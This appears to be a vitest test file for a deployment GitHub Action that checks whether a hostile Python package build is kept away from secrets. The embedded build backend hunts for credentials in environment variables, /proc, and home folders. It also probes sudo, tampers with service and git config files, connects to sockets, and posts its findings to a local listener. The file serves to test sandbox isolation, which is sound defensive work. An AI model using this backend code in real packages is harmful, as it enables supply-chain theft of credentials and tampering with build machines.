// What code of a package can find while it is built, in the built action. It looks wherever a secret might lie.

import { once } from "node:events";
import { readFileSync, readlinkSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { type AddressInfo, createServer as createSocketServer } from "node:net";
import { homedir, tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { text } from "node:stream/consumers";
import { afterEach, beforeEach, expect, test, vi } from "vitest";
import { FakeCache } from "./harness/fake-cache.ts";
import { type ActionResult, runAction, startAction } from "./harness/run-action.ts";

let root: string;
let planted: string;

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), "woven-hostile-"));
  planted = `planted-${Math.random().toString(36).slice(2)}`;
});

afterEach(() => rm(root, { recursive: true, force: true }));

/** What the build tries to change. */
const targets = () => [
  join(root, "shop/templates/woven/apache/release.service"),
  join(root, "shop/.git/config"),
  join(root, "shop/shop/settings.py"),
  join(root, "bin/python3-config"),
  join(root, "elsewhere"),
];

/**
 * A build backend, without anything to download. It reports every text in which it sees the planted word, and tries to change files and
 * to connect to sockets.
 */
const backend = (report: string, word: string) => `
import glob, json, os, pwd, socket, subprocess, urllib.request, zipfile
word = "-".join(${JSON.stringify(word.split("-"))})
seen = []
def look(name, text):
    if word in text:
        seen.append(name)
def read(path):
    try:
        if os.path.isfile(path) and os.path.getsize(path) < 1000000:
            with open(path, "rb") as file:
                look(path, file.read().decode("utf-8", "replace"))
    except OSError:
        pass
for name, value in os.environ.items():
    look("variable " + name, value)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/fd/*"):
    read(path)
for folder in [os.environ["HOME"], pwd.getpwuid(os.getuid()).pw_dir, *glob.glob("/tmp/woven-action-*")]:
    for base, folders, files in os.walk(folder):
        folders[:] = [one for one in folders if one not in ("node_modules", ".pyenv", ".npm", "go", ".cargo")]
        for file in files:
            read(os.path.join(base, file))
names = sorted(os.environ)
processes = len(glob.glob("/proc/[0-9]*"))
sudo = subprocess.run(["sudo", "-n", "true"], capture_output=True).returncode if os.path.exists("/usr/bin/sudo") else 1
for path in ${JSON.stringify(targets())}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write("ExecStartPre=+true")
    except OSError:
        pass
connected = []
for path in ${JSON.stringify(sockets())}:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        connected.append(path)
    except OSError:
        pass
found = {"seen": sorted(set(seen)), "names": names, "processes": processes, "sudo": sudo, "home": os.environ["HOME"], "connected": connected}
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
opener.open(${JSON.stringify(report)}, json.dumps(found).encode())

def build_wheel(directory, config_settings=None, metadata_directory=None):
    name = "hostile-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("hostile.py", "")
        wheel.writestr("hostile-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: hostile\\nVersion: 1.0\\n")
        wheel.writestr("hostile-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("hostile-1.0.dist-info/RECORD", "")
    return name

def get_requires_for_build_wheel(config_settings=None):
    return []
`;

interface Found {
  /** Where the planted word was. */
  readonly seen: readonly string[];
  /** Variables of the build. */
  readonly names: readonly string[];
  readonly processes: number;
  readonly sudo: number;
  readonly home: string;
  /** Sockets of other programs that it could use. */
  readonly connected: readonly string[];
}

/** Sockets in a folder of the session, and in /tmp. */
const sockets = () => [join(root, "runtime/bus"), join(root, "tmux")];

/** Receives what the build found, however isolated it is. */
async function listen() {
  await mkdir(join(root, "runtime"));
  const reports: Found[] = [];
  const server = createServer(async (request, response) => {
    reports.push(JSON.parse(await text(request)));
    response.end();
  }).listen(0, "127.0.0.1");
  const others = sockets().map((path) => createSocketServer().listen(path));
  await Promise.all([server, ...others].map((one) => once(one, "listening")));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    reports,
    [Symbol.asyncDispose]: async () => {
      for (const one of [server, ...others]) one.close();
    },
  };
}

/** A checkout that needs a hostile package; gives its folder. */
async function project(report: string): Promise<string> {
  const files = {
    "pyproject.toml": '[project]\nname = "shop"\nversion = "1.0"\n',
    "woven.toml": 'settings-module = "shop.settings"\nrequirements = ["requirements.txt"]\n',
    "manage.py": 'import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")\n',
    "shop/__init__.py": "",
    "shop/settings.py": "",
    "templates/woven/apache/release.service": "[Service]\n",
    ".git/config": "[core]\n",
    "../bin/python3-config": "#!/bin/sh\n",
    "requirements.txt": "./hostile\n",
    "hostile/pyproject.toml":
      '[project]\nname = "hostile"\nversion = "1.0"\n[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    "hostile/backend.py": backend(report, planted),
  };
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(root, "shop", name)), { recursive: true });
    await writeFile(join(root, "shop", name), content);
  }
  return join(root, "shop");
}

async function build(env: Readonly<Record<string, string>> = {}): Promise<{ result: ActionResult; found: Found }> {
  await using listener = await listen();
  const workspace = await project(listener.url);
  const secret = (name: string) => `${planted}${name}`;
  const result = await runAction({
    inputs: {
      command: "bundle",
      "bundle-for": "3.13 x86_64 glibc 2.41",
      "ssh-key": secret("key"),
      "ssh-passphrase": secret("passphrase"),
      password: secret("password"),
      roles: `production: ["${planted}.example.com"]`,
      env: `SECRET_KEY=${secret("env")}`,
      "hook-env": `TOKEN=${secret("hook")}`,
    },
    workspace,
    env: {
      GITHUB_TOKEN: secret("github"),
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: secret("oidc"),
      DATABASE_URL: `postgres://shop:${secret("database")}@db/shop`,
      AWS_SECRET_ACCESS_KEY: secret("aws"),
      XDG_RUNTIME_DIR: join(root, "runtime"),
      PATH: `${join(root, "bin")}:${process.env["PATH"]}`,
      ...env,
    },
  });
  const said = `exit ${result.code}\n${result.stderr}\n${result.stdout}`;
  expect(said).toMatch(/Building hostile/);
  const found = listener.reports.at(-1);
  if (!found) throw new Error(said);
  return { result, found };
}

test("a build finds no secret in any process, variable, home folder or file of the runner", {
  timeout: 120_000,
}, async () => {
  await using cache = await FakeCache.start();
  const { result, found } = await build({ ...cache.env, ACTIONS_RUNTIME_TOKEN: `${planted}runtime` });
  expect(result.code, result.stdout).toBe(0);
  expect(found.seen).toEqual([]);
  expect(found.names).not.toEqual(
    expect.arrayContaining([expect.stringMatching(/^(INPUT_|ACTIONS_|GITHUB_(ENV|OUTPUT|PATH|STATE|STEP_SUMMARY))/)]),
  );
  expect(found.processes).toBeLessThan(10);
  expect(found.sudo).not.toBe(0);
  expect(found.home).not.toBe(homedir());
  expect(found.connected).toEqual([]);
  const after = await Promise.all(targets().map((path) => readFile(path, "utf8").catch(() => "missing")));
  expect(after).toEqual(["[Service]\n", "[core]\n", "", "#!/bin/sh\n", "missing"]);
});

test("also on a runner that has no namespaces", { timeout: 120_000 }, async () => {
  const tools = join(root, "tools");
  await mkdir(tools);
  await writeFile(join(tools, "unshare"), "#!/bin/sh\nexit 1\n", { mode: 0o755 });
  const { result, found } = await build({ PATH: `${tools}:${process.env["PATH"]}` });
  expect(result.stdout).toContain("not isolated");
  expect(found.processes).toBeGreaterThan(5);
  expect(found.seen).toEqual([]);
});

test("the process of the action was started without its inputs", { timeout: 120_000 }, async () => {
  const running = await startAction({
    inputs: { command: "bundle", "bundle-for": "3.13 x86_64 glibc 2.41", "ssh-key": planted },
    workspace: await project("http://127.0.0.1:9/"),
    env: { DATABASE_URL: planted },
  });
  const { pid = 0 } = running.process;
  await vi.waitFor(() => expect(running.stdout()).toContain("Bundle for Python"), { timeout: 20_000, interval: 10 });
  const texts = [`/proc/${pid}/environ`, `/proc/${pid}/cmdline`].map((path) => readFileSync(path, "utf8"));
  expect(texts.join("\n")).toContain("PATH=");
  expect(texts.join("\n")).not.toContain(planted);
  expect(readlinkSync(`/proc/${pid}/fd/0`)).toBe("/dev/null");
  running.process.kill("SIGTERM");
  await running.result;
});
